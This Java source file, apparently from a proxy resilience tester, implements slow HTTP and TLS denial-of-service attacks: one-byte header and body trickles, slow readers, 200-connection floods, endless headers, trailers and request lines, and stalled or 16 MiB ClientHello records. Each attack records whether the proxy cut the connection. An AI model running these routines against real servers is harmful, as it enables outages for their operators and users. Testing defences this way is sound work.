package dev.penstock.attack;

import dev.penstock.attack.SlowAttack.Course;
import dev.penstock.attack.SlowAttack.End;
import dev.penstock.attack.SlowAttack.Limit;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.util.ArrayList;
import java.util.List;
import org.jspecify.annotations.Nullable;

/** The attacks by time and amount. */
final class SlowAttacks {
    private static final String SLOW = "CWE-400; CAPEC-469";
    private static final String HEAD = "GET /attack HTTP/1.1\r\nHost: " + Attack.HOST + "\r\n";
    private static final String POST = "POST /attack HTTP/1.1\r\nHost: " + Attack.HOST + "\r\n";
    private static final String CHUNKED = POST + "Transfer-Encoding: chunked\r\n\r\n";
    private static final int FLOOD = 200;
    private static final int MANY = 64 << 10;

    // Of a ClientHello (RFC 8446, 4.1.2 and 5.1), which none of these ever ends.
    private static final String HELLO = "\26\3\1\2\0" + "\1\0\1\374\3\3";
    private static final String PIECED = "\26\3\1\0\4" + "\1\0\77\0";
    private static final String PIECE = "\26\3\1\0\1a";
    private static final String HUGE = "\26\3\1\0\4" + "\1\377\377\377";
    private static final String RECORD = "\26\3\1\100\0" + "a".repeat(16 << 10);

    private SlowAttacks() {}

    static List<SlowAttack> all() {
        return List.of(
                SlowAttack.of("head", "a head of one byte at a time", SLOW, trickle(HEAD + "X-A: ", "a")),
                SlowAttack.of("fields", "a head of one field at a time", SLOW, trickle(HEAD, "X-A: a\r\n")),
                SlowAttack.of("head-stopped", "half a head, then nothing", SLOW, trickle(HEAD, "")),
                SlowAttack.of(
                        "body",
                        "a body of one byte at a time",
                        SLOW,
                        trickle(POST + "Content-Length: 1000000\r\n\r\n", "a")),
                SlowAttack.of("chunks", "a body of one chunk at a time", SLOW, trickle(CHUNKED, "1\r\na\r\n")),
                SlowAttack.of(
                        "body-stopped",
                        "half a body, then nothing",
                        SLOW,
                        trickle(POST + "Content-Length: 1000000\r\n\r\nhalf", "")),
                SlowAttack.of("trailers", "one trailer at a time", SLOW, trickle(CHUNKED + "0\r\n", "X-A: a\r\n")),
                SlowAttack.of("nothing", "a connection that says nothing", SLOW, trickle("", "")),
                SlowAttack.of("half-open", "half a head, then a half-close", "RFC 9112 9.6", SlowAttacks::halfOpen),
                SlowAttack.of("reader", "an answer read one byte at a time", SLOW, reader(1)),
                SlowAttack.of("reader-stopped", "an answer that nobody reads", SLOW, reader(0)),
                SlowAttack.of("idle-flood", FLOOD + " connections that say nothing", SLOW, flood("")),
                SlowAttack.of("head-flood", FLOOD + " connections with half a head", SLOW, flood(HEAD)),
                SlowAttack.of(
                        "endless-head",
                        "fields without end",
                        "RFC 9110 5.4",
                        endless(HEAD, "X-A: aaaaaaaaaa\r\n", true)),
                SlowAttack.of(
                        "endless-trailers",
                        "trailers without end",
                        "RFC 9110 6.5",
                        endless(CHUNKED + "0\r\n", "X-A: aaaaaaaaaa\r\n", true)),
                SlowAttack.of(
                        "endless-extension",
                        "a chunk extension without end",
                        "RFC 9112 7.1.1",
                        endless(CHUNKED + "1;", "aaaaaaaaaaaaaaaa", true)),
                SlowAttack.of(
                        "endless-line",
                        "a target without end",
                        "RFC 9112 3",
                        endless("GET /", "aaaaaaaaaaaaaaaa", true)),
                SlowAttack.of(
                                "pipeline",
                                "requests without end, answers that nobody reads",
                                "RFC 9112 9.3.2; CVE-2026-93491",
                                endless("", HEAD + "\r\n", false))
                        .orHeldBack(),
                SlowAttack.byTls("nothing", "a connection for TLS that says nothing", SLOW, trickle("", "")),
                SlowAttack.byTls("hello", "a ClientHello of one byte at a time", SLOW, trickle(HELLO, "a")),
                SlowAttack.byTls("hello-stopped", "half a ClientHello, then nothing", SLOW, trickle(HELLO, "")),
                SlowAttack.byTls(
                        "hello-pieces",
                        "a ClientHello of one record of one byte at a time",
                        "RFC 8446 5.1; CVE-2026-75596",
                        trickle(PIECED, PIECE)),
                SlowAttack.byTls(
                        "hello-huge",
                        "a ClientHello of 16 MiB",
                        "RFC 8446 4; CVE-2026-45416",
                        endless(HUGE, RECORD, true)),
                SlowAttack.byTls(
                        "hello-flood",
                        FLOOD + " connections with 9 bytes of a ClientHello",
                        "CVE-2026-45416",
                        flood(HUGE)));
    }

    /** Sends a beginning, then a piece in each step; reads what comes. */
    private static Course trickle(String beginning, String piece) {
        return (proxy, limit) -> {
            try (var client = new SlowClient(proxy)) {
                client.send(beginning, limit.millis());
                for (int i = 0; i < limit.steps() && client.listen(limit.stepMillis()); i++) {
                    client.send(piece, limit.millis());
                }
                return client.isOver() ? End.ENDED : End.LASTED;
            }
        };
    }

    private static End halfOpen(InetSocketAddress proxy, Limit limit) throws IOException {
        try (var client = new SlowClient(proxy)) {
            client.send(HEAD, limit.millis());
            client.halfClose();
            for (int i = 0; i < limit.steps() && client.listen(limit.stepMillis()); i++) {
                // waits
            }
            return client.isOver() ? End.ENDED : End.LASTED;
        }
    }

    /** Asks for a large answer and reads so many bytes of it in each step. */
    private static Course reader(int bytes) {
        return (proxy, limit) -> {
            try (var client = new SlowClient(proxy)) {
                client.send(HEAD + "\r\n", limit.millis());
                for (int i = 0; i < limit.steps() && !client.isOver(); i++) {
                    client.readAfter(limit.stepMillis(), bytes);
                    client.send("\r\n", 1); // fails once the connection was reset, whatever there is to read
                }
                return client.isOver() ? End.ENDED : End.LASTED;
            }
        };
    }

    private static Course flood(String beginning) {
        return (proxy, limit) -> {
            List<SlowClient> clients = new ArrayList<>();
            try {
                for (int i = 0; i < FLOOD; i++) {
                    SlowClient client = oneMore(proxy, clients);
                    if (client == null) {
                        break;
                    }
                    client.send(beginning, limit.millis());
                }
                int left = limit.steps() + FLOOD; // one look at each more
                for (SlowClient client : clients) {
                    while (left > 0 && client.listen(limit.stepMillis())) {
                        left--;
                    }
                }
                return clients.stream().allMatch(SlowClient::isOver) ? End.ENDED : End.LASTED;
            } finally {
                for (SlowClient client : clients) {
                    client.close();
                }
            }
        };
    }

    /** Null where the proxy takes no further one, which is an end as well. */
    private static @Nullable SlowClient oneMore(InetSocketAddress proxy, List<SlowClient> clients) throws IOException {
        try {
            var client = new SlowClient(proxy);
            clients.add(client);
            return client;
        } catch (IOException e) {
            if (clients.isEmpty()) {
                throw e;
            }
            return null;
        }
    }

    /** Sends one piece after the other as fast as they are taken; reads what comes, or nothing. */
    private static Course endless(String beginning, String piece, boolean reading) {
        String many = piece.repeat(MANY / piece.length());
        return (proxy, limit) -> {
            try (var client = new SlowClient(proxy)) {
                boolean taken = client.send(beginning, limit.millis());
                for (long sent = 0; taken && sent < SlowAttack.MOST_BYTES; sent += many.length()) {
                    taken = client.send(many, limit.millis()) && (!reading || client.listen(1));
                }
                if (taken) {
                    return End.TAKEN;
                }
                return client.isOver() ? End.ENDED : End.HELD_BACK;
            }
        };
    }
}
